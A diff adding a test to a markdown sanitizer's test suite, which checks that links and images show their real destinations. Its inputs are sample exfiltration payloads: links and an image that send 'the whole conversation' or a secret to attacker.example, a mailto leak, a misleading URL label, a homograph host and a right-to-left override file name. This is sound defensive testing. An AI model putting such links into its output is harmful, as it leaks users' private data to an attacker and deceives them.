@@ -52,6 +52,35 @@ describe('markdownToSafeTree', () => {
     expect(safeTreeText(tree)).toContain('[image: evil]');
   });
 
+  it('shows where every link and image link really goes, query string included, unless its text already says so', () => {
+    const tree = markdownToSafeTree([
+      '[the docs](https://attacker.example/c?q=the%20whole%20conversation)',
+      '![chart](https://attacker.example/p.png?d=secret)',
+      '[write to us](mailto:x@attacker.example?body=secret)',
+      '[home](/index.html)',
+      '<https://auto.example/path>',
+      '<x@y.z>',
+      '[https://good.example](https://attacker.example/)',
+      '[xn](https://ехample.com/) [rtl](/a\u202Etxt.exe)',
+    ].join(' '));
+    const shown = elements(tree).filter((e) => e.attrs.destination).map((e) => safeTreeText([e]));
+    expect(shown).toEqual([
+      ' (https://attacker.example/c?q=the%20whole%20conversation)',
+      ' (https://attacker.example/p.png?d=secret)',
+      ' (mailto:x@attacker.example?body=secret)',
+      ' (/index.html)',
+      // a label that looks like a URL but is not the destination
+      ' (https://attacker.example/)',
+      // a homograph host in punycode, a right-to-left override encoded
+      ' (https://xn--ample-ywe6i.com/)',
+      ' (/a%E2%80%AEtxt.exe)',
+    ]);
+    expect(safeTreeText(tree)).toContain('image: chart (https://attacker.example/p.png?d=secret)');
+    // The destination is text beside the link, not part of a link.
+    const destinations = elements(tree).filter((e) => e.attrs.destination);
+    expect(destinations.every((d) => d.tag === 'span' && d.children.every((c) => c.kind === 'text'))).toBe(true);
+  });
+
   it('decodes entities in text but not in code', () => {
     const tree = markdownToSafeTree('a &amp; b `&amp;`\n\n```\n&lt;\n```');
     expect(safeTreeText(tree)).toBe('a & b &amp;&lt;');
